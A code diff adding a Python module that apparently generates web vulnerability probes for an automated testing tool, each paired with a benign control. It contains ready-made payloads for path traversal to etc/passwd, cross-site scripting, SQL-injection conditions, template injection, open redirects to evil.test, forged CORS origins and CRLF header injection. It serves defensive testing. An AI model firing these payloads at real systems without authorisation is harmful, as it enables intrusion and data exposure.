@@ -1,0 +1,191 @@
+"""Builds attack questions for one input: each payload beside its benign control. Pure; the oracles judge.
+
+Nothing here destroys, stores a program or delays. A condition only narrows what a read returns, and one that
+widens it is sent by GET only; a computed expression is a product; a climbed path reads a file that every
+system lets everybody read. Canaries and factors come from `chance`, so that a run can be repeated.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator, Sequence
+from random import Random
+from urllib.parse import quote, urlsplit
+
+from fleet.drivers.desk import Question
+from fleet.drivers.explore.web.points import Point
+from fleet.personas.model import Step
+
+FOREIGN = "evil.test"
+"""A host that belongs to no platform (RFC 6761): where an attacker's page would be."""
+READ = frozenset({"GET", "HEAD"})
+UP = 12
+"""Folders that a path climbs out of: more than there are, since above the last one is only itself."""
+
+Attack = Callable[[Point, Random], Iterator[Question]]
+
+
+def questions(point: Point, chance: Random) -> Iterator[Question]:
+    """The attacks on one input, the cheapest and most telling first; take as many as the room allows.
+
+    Each question begins with its benign control; the oracles judge every later step against it. About 80
+    calls in all, at most 10 in one question.
+    """
+    for attack in ATTACKS:
+        yield from attack(point, chance)
+
+
+def below(folder: Point, chance: Random, *, root: bool) -> Iterator[Question]:
+    """The attacks on what stands below a folder, in spellings that no link has: out of the folder to a file
+    that everybody may read, and, from the root, to a foreign host, as a browser can send it."""
+    up, file = "../" * UP, "etc/passwd"
+    ways = (
+        up + file,
+        up.replace("..", "%2e%2e") + file,
+        (up + file).replace("/", "%2f"),
+        "....//" * UP + file,
+        f"/{file}",
+        f"/{file}".replace("/", "%2f"),
+        (up + file).replace("..", "%252e%252e").replace("/", "%252f"),
+        (up + file).replace("/", "%5c"),
+        "..;/" * UP + file,
+    )
+    yield _beside(folder, *ways)
+    if root:
+        host = f"{_word(chance)}.{FOREIGN}"
+        yield _beside(folder, f"/{host}/", f"/{host}/%2f..", f"/{host}/..%2f", f"%5c{host}/%2f..")
+
+
+def origins(url: str, own: Sequence[str], chance: Random) -> Iterator[Question]:
+    """The foreign origins that a page may take for its own, by rule; `own` are the platform's origins, such
+    as `https://example.org`.
+
+    A question is [no origin, a stranger's origin, foreign origins that resemble one of `own` ...]: each is
+    judged against the first two.
+    """
+    likes = list(dict.fromkeys(["null", *_lookalikes(own)]))
+    controls: list[dict[str, str]] = [{}, {"origin": f"https://{_word(chance)}.{FOREIGN}"}]
+    for at in range(0, len(likes), 8):
+        sent: list[dict[str, str]] = [*controls, *({"origin": like} for like in likes[at : at + 8])]
+        yield Question(tuple(Step(tool="qa_fetch", args={"url": url, **more}) for more in sent))
+
+
+def _lookalikes(own: Sequence[str]) -> Iterator[str]:
+    """Foreign origins that pass a check by prefix, suffix, substring or pattern; then by scheme and port."""
+    hosts = dict.fromkeys((*own, "http://localhost"))
+    split = [(one.partition("://")[0], urlsplit(one).hostname or "") for one in hosts]
+    for scheme, host in split:
+        yield f"{scheme}://{host}.{FOREIGN}"
+    for scheme, host in split:
+        if host != "localhost":
+            yield f"{scheme}://evil{host}"
+        if any(letter.isalpha() for letter in host) and "." in host:
+            yield f"{scheme}://{host.replace('.', 'x', 1)}"
+        yield f"{scheme}://evil.{host.replace('.', '-')}.{FOREIGN}"
+    for scheme, host in split:
+        if scheme == "https":
+            yield from (f"http://{host}", f"https://{host}:8443")
+
+
+def _script(point: Point, chance: Random) -> Iterator[Question]:
+    """A canary as a program, by context: element, any open element or attribute, attribute; URL, script."""
+    canary = _word(chance)
+    elements = (
+        f"<script>{canary}</script>",
+        f"\"'--></title></textarea></style></script><svg onload={canary}>",
+        f"\" onfocus={canary} x='",
+        f"' onfocus={canary} x=\"",
+    )
+    programs = (f"javascript:{canary}", f"[x](javascript:{canary})", f'";{canary};"', f"';{canary};'")
+    for payloads in (elements, programs):
+        yield Question(tuple(point.step(text, canary=canary) for text in (canary, *payloads)))
+
+
+def _edges(point: Point, chance: Random) -> Iterator[Question]:
+    """Values that no careful program breaks on; what a server's failure or a leak tells is judged of each."""
+    yield _beside(point, "", "-1", "0", "NaN", "1e309", "9" * 40, "[]", '{"a":[{}]}', "\ufffd\U0001f33f")
+    yield _beside(point, f"{point.value}\0", "\u202e%s%n%d", "a" * 4_000)
+
+
+def _quote(point: Point, chance: Random) -> Iterator[Question]:
+    """A quote breaks, a doubled quote mends."""
+    for mark in ("'", '"'):
+        given = (point.value, point.value + mark, point.value + mark * 2, point.value)
+        yield Question(tuple(point.step(text) for text in given))
+
+
+def _expression(point: Point, chance: Random) -> Iterator[Question]:
+    """A product in the languages of templates: computed, it shows as a number that stands nowhere else."""
+    one, two = chance.randrange(1_009, 9_973), chance.randrange(1_009, 9_973)
+    marks = ("{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>", "$((%s))", "{%s}", "[[%s]]")
+    yield _beside(point, *(mark % f"{one}*{two}" for mark in marks))
+
+
+def _climb(point: Point, chance: Random) -> Iterator[Question]:
+    """Paths to a file that everybody may read; `..` by the usual spellings, and the path itself."""
+    up, file = "../" * 8, "etc/passwd"
+    ways = [
+        up + file,
+        f"/{file}",
+        quote(up + file, safe=""),
+        "....//" * 8 + file,
+        (up + file).replace("/", "\\"),
+    ]
+    if "." in point.value:
+        ways.append(f"{up}{file}\0.{point.value.rpartition('.')[2]}")
+    yield _beside(point, *ways)
+
+
+def _redirect(point: Point, chance: Random) -> Iterator[Question]:
+    """A foreign host as the place to go on to, in the spellings that a browser reads as one."""
+    host = f"{_word(chance)}.{FOREIGN}"
+    yield _beside(point, f"https://{host}/", f"//{host}/", f"/\\{host}/", f"https:{host}/", f"/\t/{host}/")
+    yield _beside(point, f"{{site}}@{host}/", f"{{site}}.{host}/", f"https://{host}/{{site}}")
+
+
+def _split(point: Point, chance: Random) -> Iterator[Question]:
+    """A line break and a header of ours."""
+    if point.kind != "header":  # an HTTP client sends none within a header
+        header = f"x-{_word(chance)}: {_word(chance)}"
+        yield _beside(point, f"{point.value}\r\n{header}", f"{point.value}\n{header}")
+
+
+def _json(point: Point, chance: Random) -> Iterator[Question]:
+    """A quoted text that becomes a field, where an answer is put together by hand."""
+    yield _beside(point, f'{point.value}","{_word(chance)}":"1')
+
+
+def _condition(point: Point, chance: Random) -> Iterator[Question]:
+    """A condition that is true, and one that is false, each twice; one that widens a read by GET only."""
+    one, two = chance.sample(range(1_000, 9_999), 2)
+    value = point.value
+    forms = [(value, f"{value}' AND '{one}'='%s"), (value, f"{value} AND {one}=%s")]
+    forms.append((value, f"{value}%%' AND '{one}%%'='%s"))
+    if point.method in READ:
+        forms.append((f"qa{value}", f"qa{value}' OR '{one}'='%s"))
+    for plain, form in forms:
+        true, false = (form.replace("%s", str(other)).replace("%%", "%") for other in (one, two))
+        yield Question(tuple(point.step(text) for text in (plain, true, false, true, false)))
+
+
+def _beside(point: Point, *payloads: str) -> Question:
+    """The benign call, and one of each payload: each is judged against the first."""
+    return Question(tuple(point.step(text) for text in (point.value, *payloads)))
+
+
+def _word(chance: Random) -> str:
+    """A word that no page contains."""
+    return f"qa{chance.getrandbits(40):010x}"
+
+
+ATTACKS: tuple[Attack, ...] = (
+    _script,
+    _redirect,
+    _edges,
+    _quote,
+    _expression,
+    _climb,
+    _split,
+    _json,
+    _condition,
+)
+"""In order of worth."""
